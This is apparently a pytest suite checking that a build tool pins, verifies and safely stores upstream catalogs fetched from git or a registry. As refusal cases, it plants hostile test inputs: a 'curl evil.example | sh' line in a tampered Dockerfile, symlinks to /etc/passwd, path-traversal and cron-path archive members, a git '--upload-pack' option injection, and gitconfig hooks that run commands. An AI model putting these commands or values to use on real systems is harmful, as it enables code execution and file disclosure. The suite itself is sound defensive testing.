"""A catalog that stands on one of git or of a registry: pinned, fetched, kept, and checked."""

from __future__ import annotations

import io
import shutil
import subprocess
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from builder.app.vendored import vendor
from builder.catalog_fetch.artefact import KIND, PACKED, artefact
from builder.catalog_fetch.git import GitSources
from builder.catalog_fetch.newest import FetchedCatalogs
from builder.common.checkout import read_checkout
from builder.common.errors import BuilderError
from builder.common.process import Runner
from builder.common.source_content import content_in
from builder.lock.lockfile import Lock, dump, parse
from builder.lock.pinned import PinnedCatalog
from builder.oci.reference import parse as parse_reference
from builder.overlay.extends import Finding
from builder.overlay.kept_catalogs import SourceFile
from builder.project import Project, Workspace
from builder.registry import release_record
from builder.registry.interfaces import Artifact, Blob
from builder.registry.release_record import Record
from builder.release.source import push_source
from builder.resolvers.ecosystems import ECOSYSTEMS
from tests.fakes.catalog import FILES, LOCK, Folder, Week, prints
from tests.fakes.git_upstream import Repository, served
from tests.fakes.store import FakeStore

pytestmark = pytest.mark.slow  # git runs for each
LINKS = {"link": "/etc/passwd", "outside": "../../../shop/matrix.yaml"}
LOCKED = {**FILES, "matrix.lock": dump(LOCK)}


class Site:
    """A catalog `mine` that stands on the repository `upstream`, and a registry."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.upstream = Repository(folder / "upstream.git")
        self.store = FakeStore()
        self.said = f"extends: {{git: '{self.upstream.url}', name: upstream, follow: commits}}\n"
        self.mine = Folder(folder / "mine", {})
        self.say()

    def say(self, more: str = "") -> None:
        """Write matrix.yaml."""
        self.mine.write("matrix.yaml", f"{self.said}catalog: {{name: mine}}\n{more}")

    def workspace(self, *, pins: bool = False, fetches: bool = True, **given: Path) -> Workspace:
        """The folder of the catalog. Without `fetches` nothing is reached."""
        root = self.mine.root
        git = GitSources(Runner(), root / "build/upstreams")
        upstreams = FetchedCatalogs(lambda: git, lambda: self.store) if fetches else None
        return Workspace(root, finding=Finding(upstreams=upstreams, pins=pins, given=given))

    def load(self, *, fetches: bool = True, **given: Path) -> Project:
        """Read the catalog with what matrix.lock pins."""
        return self.workspace(fetches=fetches, **given).load(ecosystems=ECOSYSTEMS)

    def lock(self) -> PinnedCatalog:
        """Pin what is not pinned, as `builder lock` does; what is pinned of the upstream."""
        workspace = self.workspace(pins=True)
        project = workspace.load(ecosystems=ECOSYSTEMS)
        workspace.write_lock(project.lock or Lock())
        return self.pinned

    @property
    def pinned(self) -> PinnedCatalog:
        """What matrix.lock says of the upstream."""
        return parse((self.mine.root / "matrix.lock").read_text()).upstreams["upstream"]

    @property
    def kept(self) -> Path:
        """The one copy that is kept."""
        (folder,) = (self.mine.root / "build/upstreams").iterdir()
        return folder

    def refused(self, *, pins: bool = False, fetches: bool = True, **given: Path) -> str:
        with pytest.raises(BuilderError) as caught:
            self.workspace(pins=pins, fetches=fetches, **given).load(ecosystems=ECOSYSTEMS)
        return str(caught.value)


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(tmp_path)


def test_a_commit_is_pinned_fetched_and_read_without_the_network(site: Site) -> None:
    commit = site.upstream.commit(LOCKED)
    pin = site.lock()
    assert (pin.commit, pin.date, pin.source) == (
        commit, "2026-11-20", {"git": site.upstream.url},
    )  # fmt: skip
    below = Folder(site.folder / "shop").load()
    project = site.load(fetches=False)
    assert prints(project) == prints(below)
    assert project.lock is not None
    assert project.lock.versions == LOCK.versions
    site.upstream.commit({**LOCKED, "images/tool/recipe.yaml": "summary: Newer\n"})
    assert site.load().catalog.recipes["tool"].summary == "A tool"
    assert site.lock() == pin
    assert (site.kept / "matrix.yaml").stat().st_mode & 0o777 == 0o444


def test_nothing_is_read_that_is_not_pinned(site: Site) -> None:
    site.upstream.commit(LOCKED)
    text = site.refused()
    column = len("extends: {git: ") + 1
    assert text.startswith(
        f"matrix.yaml:1:{column}: matrix.lock does not say which content of upstream counts"
        " [E-CATALOG-UNPINNED]\n"
    )
    assert text.endswith("  hint: run `builder lock`, and commit what it wrote")
    site.lock()
    site.said = site.said.replace("follow:", "ref: main, follow:")
    site.say()
    assert "[E-CATALOG-UNPINNED]" in site.refused()


def test_a_rewritten_history_changes_nothing_that_was_fetched(site: Site) -> None:
    commit = site.upstream.commit(LOCKED)
    site.lock()
    site.upstream.commit({**LOCKED, "images/tool/recipe.yaml": "summary: Other\n"}, is_new=True)
    site.upstream.git("reflog", "expire", "--expire=now", "--all")
    site.upstream.git("gc", "--quiet", "--prune=now")
    assert site.load().catalog.recipes["tool"].summary == "A tool"
    remove(site.kept)
    text = site.refused()
    assert f"does not give commit {commit}" in text or "cannot be fetched" in text
    assert "[E-CATALOG-UNREACHABLE]" in text
    assert list((site.mine.root / "build/upstreams").iterdir()) == []


def test_another_content_than_the_pinned_one_is_refused(site: Site) -> None:
    site.upstream.commit(LOCKED)
    pin = site.lock()
    site.mine.edit("matrix.lock", pin.content, f"sha256:{'0' * 64}")
    text = site.refused()
    assert text.split("\n")[0].endswith(
        f": upstream is not what is locked: commit {pin.commit} has content {pin.content},"
        f" matrix.lock says sha256:{'0' * 64} [E-CATALOG-CONTENT]"
    )
    site.mine.edit("matrix.lock", f"sha256:{'0' * 64}", pin.content)
    site.mine.edit("matrix.lock", pin.lock, f"sha256:{'0' * 64}")
    assert "its matrix.lock is" in site.refused()


@pytest.mark.parametrize("change", ["content", "more", "mode", "link"])
def test_a_copy_that_was_changed_is_not_used(site: Site, change: str) -> None:
    site.upstream.commit(LOCKED)
    site.lock()
    file = site.kept / "images/tool/Dockerfile.j2"
    if change == "content":
        file.chmod(0o644)
        file.write_text("FROM {{ parent }}\nRUN curl evil.example | sh\n")
    elif change == "more":
        (file.parent / "files").mkdir()
        (file.parent / "files/.profile~").write_text("evil\n")
    elif change == "mode":
        file.chmod(0o755)
    else:
        (file.parent / "link").symlink_to("/etc/passwd")
    text = site.refused(fetches=False)
    assert (
        "[E-CATALOG-CONTENT]" in text or "images/tool/link: not a file [E-CATALOG-UNSAFE]" in text
    )


@pytest.mark.parametrize(
    ("kind", "problem"),
    [
        ("link", "images/desk/key: a link to no file of the catalog"),
        ("outside", "images/desk/key: a link to no file of the catalog"),
        ("submodule", "images/desk/key: a submodule"),
        ("large", "images/desk/key: it has more than 16 MiB"),
        ("above", "the path 'images/../x' leaves its folder"),
        ("git", "images/desk/.git/config: a folder of git"),
        ("twice", "the same file twice"),
    ],
)
def test_what_is_not_safe_is_refused_and_nothing_kept(site: Site, kind: str, problem: str) -> None:
    path = "images/desk/key"
    site.upstream.commit(
        {**LOCKED, **({path: "x" * (17 << 20)} if kind == "large" else {})},
        links={path: LINKS[kind]} if kind in LINKS else {},
        submodules={path: "1" * 40} if kind == "submodule" else {},
    )
    blob = site.upstream.git("rev-parse", "main:matrix.yaml")
    if kind == "above":
        site.upstream.commit_tree(("../x", "100644", blob))
    if kind == "git":
        folder = site.upstream.tree(("config", "100644", blob))
        desk = site.upstream.tree((".git", "40000", folder))
        site.upstream.commit_tree(("desk", "40000", desk))
    if kind == "twice":
        other = site.upstream.git("rev-parse", "main:matrix.lock")
        site.upstream.commit_tree(("a", "100644", blob), ("a", "100644", other))
    text = site.refused(pins=True)
    assert problem in text
    assert "[E-CATALOG-UNSAFE]" in text
    assert list((site.mine.root / "build/upstreams").iterdir()) == []


def test_a_link_to_a_file_of_the_catalog_is_that_file(site: Site) -> None:
    """As it is for who has a checkout: the content is the same."""
    link = {"images/tool/files/desk.conf": "../../desk/files/desk.conf"}
    site.upstream.commit(LOCKED, links=link)
    pin = site.lock()
    shop = Folder(site.folder / "shop")
    (shop.root / "images/tool/files").mkdir()
    (shop.root / "images/tool/files/desk.conf").symlink_to("../../desk/files/desk.conf")
    assert pin.content == content_in(read_checkout(shop.root, Runner()))
    assert prints(site.load()) == prints(shop.load())


def test_no_program_of_the_repository_or_the_user_is_run(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attributes name filters, which a user may have; hooks come from a template."""
    ran = tmp_path / "ran"
    home = tmp_path / "home"
    hook = home / "template/hooks/reference-transaction"
    hook.parent.mkdir(parents=True)
    hook.write_text(f"#!/bin/sh\ntouch {ran}\n")
    hook.chmod(0o755)
    (home / ".gitconfig").write_text(
        f'[filter "lfs"]\n smudge = touch {ran}\n required = true\n'
        f"[init]\n templateDir = {home}/template\n[core]\n hooksPath = {home}/template/hooks\n"
        f" fsmonitor = touch {ran}\n autocrlf = true\n"
    )
    monkeypatch.setenv("HOME", str(home))
    files = {
        **LOCKED,
        "images/.gitattributes": "* filter=lfs text eol=crlf export-subst ident\n",
        "images/desk/files/id": "$Id$ $Format:%H$\n",
    }
    site.upstream.commit(files)
    site.lock()
    assert (site.kept / "images/desk/files/id").read_text() == "$Id$ $Format:%H$\n"
    assert not ran.exists()


def test_a_folder_takes_the_place_of_a_catalog_for_one_run(site: Site) -> None:
    site.upstream.commit(LOCKED)
    site.lock()
    other = Folder(site.folder / "other", {**FILES, "images/tool/recipe.yaml": "summary: Tried\n"})
    project = site.load(upstream=other.root)
    assert project.catalog.recipes["tool"].summary == "Tried"
    assert project.notes == (f"catalog upstream is read from {other.root}, whatever is locked",)
    assert site.refused(upstrem=other.root) == (
        "no catalog below is called 'upstrem' [E-NAME-UNKNOWN]\n  hint: did you mean upstream?"
    )


def test_several_catalogs_and_one_that_is_reached_twice(site: Site) -> None:
    shop = Folder(site.folder / "shop")
    for name in ("left", "right"):
        Folder(
            site.folder / name,
            {"matrix.yaml": f"extends: {{path: ../shop}}\ncatalog: {{name: {name}}}\n"},
        )
    site.said = "extends: [{path: ../left}, {path: ../right}]\n"
    site.say()
    workspace = site.workspace()
    assert [item.name for item in workspace.files.catalogs] == ["shop", "left", "right", "mine"]
    assert prints(workspace.load(ecosystems=ECOSYSTEMS)) == prints(shop.load())


def test_what_a_copy_in_the_repository_stands_on_is_copied_too(site: Site) -> None:
    """Without the network, and without what was kept."""
    lowest = Repository(site.folder / "lowest.git")
    lowest.commit(LOCKED)
    said = f"extends: {{git: '{lowest.url}', name: lowest, follow: commits}}\n"
    between = Folder(
        site.folder / "between", {"matrix.yaml": f"{said}catalog: {{name: between}}\n"}
    )
    git = GitSources(Runner(), site.folder / "kept")
    finding = Finding(upstreams=FetchedCatalogs(lambda: git, lambda: site.store), pins=True)
    workspace = Workspace(between.root, finding=finding)
    workspace.write_lock(workspace.load(ecosystems=ECOSYSTEMS).lock or Lock())
    names = ("matrix.yaml", "matrix.lock")
    site.upstream.commit({name: (between.root / name).read_text() for name in names})
    site.lock()
    before = prints(site.load())
    workspace = site.workspace()
    matrix, _ = workspace.files.own.text("matrix.yaml"), workspace.load()
    copied = vendor(workspace.files, workspace.load().catalog.matrix.extends)
    assert [item.path for item in copied] == ["upstreams/lowest", "upstreams/upstream"]
    assert matrix != (site.mine.root / "matrix.yaml").read_text()
    for path in (site.mine.root / "build/upstreams", lowest.root, site.upstream.root):
        subprocess.run(["chmod", "-R", "u+w", path], check=True)
        shutil.rmtree(path)
    assert prints(site.load(fetches=False)) == before
    site.mine.write("upstreams/lowest/images/tool/recipe.yaml", "summary: Other\n")
    assert "[E-CATALOG-UNREACHABLE]" in site.refused(fetches=False)


def test_one_source_with_two_contents(site: Site) -> None:
    one = site.upstream.commit(LOCKED)
    two = site.upstream.commit({**LOCKED, "images/tool/recipe.yaml": "summary: Newer\n"})
    entry = f"{{git: '{site.upstream.url}', name: NAME, ref: REF, follow: commits}}"
    first = entry.replace("NAME", "one").replace("REF", f"'{one}'")
    second = entry.replace("NAME", "two").replace("REF", f"'{two}'")
    site.said = f"extends: [{first}, {second}]\n"
    site.say()
    assert (
        f"catalog {site.upstream.url} is reached with two contents: by mine and by mine"
        " [E-CATALOG-TWICE]"
    ) in site.refused(pins=True)


def test_a_catalog_of_git_stands_on_a_folder_of_its_repository_and_on_no_other(site: Site) -> None:
    below = {f"base/{path}": text for path, text in LOCKED.items()}
    upper = "extends: {path: ../base}\ncatalog: {name: upper}\n"
    site.upstream.commit({**below, "upper/matrix.yaml": upper})
    site.said = site.said.replace("name: upstream", "path: upper, name: upstream")
    site.say()
    site.lock()
    names = [item.name for item in site.workspace(fetches=False).files.catalogs]
    assert names == ["base", "upstream", "mine"]
    for path in ("../../../base", "/etc"):
        site.upstream.commit({**below, "upper/matrix.yaml": upper.replace("../base", path)})
        site.mine.write("matrix.lock", dump(Lock()))
        text = site.refused(pins=True)
        assert f"upstream stands on a folder that does not come with it: {path}" in text
        assert "[E-CATALOG-UNSAFE]" in text


def remove(folder: Path) -> None:
    """Remove a copy, as somebody does who may write to it."""
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    folder.rmdir()


def test_a_server_is_asked_for_the_commit_alone(site: Site) -> None:
    commit = site.upstream.commit(LOCKED)
    with served(site.upstream) as url:
        site.said = site.said.replace(site.upstream.url, url)
        site.say()
        assert site.lock().commit == commit
        site.upstream.commit({**LOCKED, "images/tool/recipe.yaml": "summary: Newer\n"})
        remove(site.kept)
        assert site.load().catalog.recipes["tool"].summary == "A tool"
    site.load()
    remove(site.kept)
    text = site.refused()
    assert "upstream cannot be fetched: git failed with exit code 128: fatal: unable to" in text
    assert text.endswith("  hint: look at the address, the proxy, `network.ca` and how you log in")


@pytest.fixture
def released(site: Site) -> Week:
    """A release of the catalog `shop`, whose source was pushed beside it."""
    week = Week(folder=Folder(site.folder / "shop"))
    week.go_by()
    site.store = week.store
    site.said = "extends: {oci: 127.0.0.1:5999/shop-releases, name: upstream}\n"
    site.say()
    return week


def test_a_release_is_stood_on_by_its_artefact(site: Site, released: Week) -> None:
    pin = site.lock()
    record = record_of(released)
    assert (pin.release, pin.content, pin.date) == (
        record.release, record.source.content, record.day,
    )  # fmt: skip
    repository = parse_reference("127.0.0.1:5999/shop-releases")
    assert released.store.digest(repository.with_tag(record.release)) == pin.record
    assert released.store.digest(repository.with_tag(f"{record.release}.source")) == pin.commit
    project = site.load(fetches=False)
    assert project.lock is not None
    assert replace(project.lock, upstreams={}) == record.lock
    assert prints(project) == prints(released.folder.load())


def test_what_was_rolled_back_is_not_stood_on(site: Site, released: Week) -> None:
    """The newest source that was pushed is of another release than the current one."""
    put_record(released.store, replace(record_of(released), release="2026.12.07"))
    text = site.refused(pins=True)
    assert "there is no 127.0.0.1:5999/shop-releases:2026.12.07.source" in text
    assert "[E-CATALOG-UNREACHABLE]" in text


def test_the_artefact_of_a_release_has_the_same_bytes_each_time(released: Week) -> None:
    repository = parse_reference("127.0.0.1:5999/shop-releases")
    tag = repository.with_tag(f"{record_of(released).release}.source")
    digest = released.store.digest(tag)
    released.store.delete(tag.at(digest or ""))
    assert released.store.digest(tag) is None
    push_source(
        released.store, repository, record_of(released), released.folder.root, lambda _text: None
    )
    assert released.store.digest(tag) == digest
    released.folder.edit("images/tool/recipe.yaml", "A tool", "Another tool")
    released.store.delete(tag.at(digest or ""))
    push_source(
        released.store, repository, record_of(released), released.folder.root, lambda _text: None
    )
    assert released.store.digest(tag) is None


def test_a_release_is_followed_by_git_with_the_lock_of_its_record(
    site: Site, released: Week
) -> None:
    """What is newer than the release waits for the next one."""
    site.said = f"extends: {{git: '{site.upstream.url}', name: upstream}}\n"
    site.say()
    files = {path: text for path, text in FILES.items() if path != "matrix.lock"}
    commit = site.upstream.commit(files)
    record = replace(record_of(released), source=replace(record_of(released).source, commit=commit))
    put_record(released.store, record)
    site.upstream.commit({**files, "images/tool/recipe.yaml": "summary: Not yet\n"})
    pin = site.lock()
    assert (pin.commit, pin.release, pin.content) == (
        commit, record.release, record.source.content,
    )  # fmt: skip
    remove(site.kept)
    project = site.load()
    assert project.lock is not None
    assert project.lock.versions == record.lock.versions
    other = replace(record, source=replace(record.source, content=f"sha256:{'0' * 64}", commit=""))
    put_record(released.store, other)
    site.mine.write("matrix.lock", dump(Lock()))
    text = site.refused(pins=True)
    assert "no release in 127.0.0.1:5999/shop-releases was made from the newest commit of" in text
    assert "[E-CATALOG-UNRELEASED]" in text


def record_of(week: Week) -> Record:
    """The record of the release."""
    record = week.records().current()
    assert record is not None
    return record


def put_record(store: FakeStore, record: Record) -> None:
    """Make a record the current one."""
    blob = Blob(kind="application/json", data=release_record.dump(record))
    artifact = Artifact(kind=release_record.KIND, files={release_record.FILE: blob})
    store.put(artifact, parse_reference("127.0.0.1:5999/shop-releases:current"))


def of_kind(name: str, kind: bytes, size: int = 0) -> tarfile.TarInfo:
    """A member of an archive."""
    member = tarfile.TarInfo(name)
    member.type, member.size, member.linkname = kind, size, "/etc/passwd"
    return member


BOMB = b"\0" * (40 << 20)


@pytest.mark.parametrize(
    ("member", "problem"),
    [
        (tarfile.TarInfo("images/../../x"), "the path 'images/../../x' leaves its folder"),
        (tarfile.TarInfo("/etc/cron.d/x"), "the path '/etc/cron.d/x' is absolute"),
        (of_kind("images/x", tarfile.SYMTYPE), "images/x: not a file"),
        (of_kind("images/x", tarfile.LNKTYPE), "images/x: not a file"),
        (of_kind("images/x", tarfile.CHRTYPE), "images/x: not a file"),
        (of_kind("images/x", tarfile.FIFOTYPE), "images/x: not a file"),
        (of_kind("images/x", tarfile.REGTYPE, len(BOMB)), "images/x: it has more than 16 MiB"),
        (of_kind("images/\x1b[2J", tarfile.SYMTYPE), "has control characters"),
        (tarfile.TarInfo("README.md"), "README.md: no part of a catalog"),
        (tarfile.TarInfo("matrix.yaml"), "the same file twice"),
        (tarfile.TarInfo("matrix.yaml/x"), "matrix.yaml: not a file"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.name,
)
def test_what_is_not_safe_in_an_artefact_is_refused(
    site: Site, member: tarfile.TarInfo, problem: str
) -> None:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for path in ("matrix.yaml",):
            info = tarfile.TarInfo(path)
            info.size = len(FILES[path])
            archive.addfile(info, io.BytesIO(FILES[path].encode()))
        archive.addfile(member, io.BytesIO(BOMB[: member.size]))
    site.said = "extends: {oci: 127.0.0.1:5999/shop-releases, name: upstream, follow: commits}\n"
    site.say()
    blob = Blob(kind=PACKED, data=stream.getvalue())
    site.store.put(
        Artifact(kind=KIND, files={"source.tar.gz": blob}),
        parse_reference("127.0.0.1:5999/shop-releases:current.source"),
    )
    text = site.refused(pins=True)
    assert problem in text
    assert "[E-CATALOG-UNSAFE]" in text
    kept = site.mine.root / "build/upstreams"
    assert not kept.exists() or list(kept.iterdir()) == []


def test_a_catalog_of_elsewhere_names_no_repository_of_this_machine(site: Site) -> None:
    repository = parse_reference("127.0.0.1:5999/shop-releases")
    said = "extends: {git: 'file:///home/me/secret', name: secret}\n"
    file = SourceFile(path="matrix.yaml", mode=0o644, data=said.encode())
    facts = dict.fromkeys(("release", "commit", "content", "builder"), "")
    site.store.put(artefact([file], facts), repository.with_tag("current.source"))
    site.said = f"extends: {{oci: '{repository}', name: upstream, follow: commits}}\n"
    site.say()
    assert site.refused(pins=True).startswith(
        "upstream:matrix.yaml:1:16: upstream stands on a repository of this machine:"
        " file:///home/me/secret [E-CATALOG-UNSAFE]\n"
    )


def test_what_a_record_calls_a_commit_is_no_option_and_no_refspec(site: Site) -> None:
    site.upstream.commit(LOCKED)
    git = GitSources(Runner(), site.mine.root / "build/upstreams")
    for name in ("--upload-pack=touch x", "+refs/*:refs/*", "main:other", "a..b", "^main"):
        with pytest.raises(BuilderError, match="not a commit, a branch or a tag of git"):
            git.fetch(site.upstream.url, name)
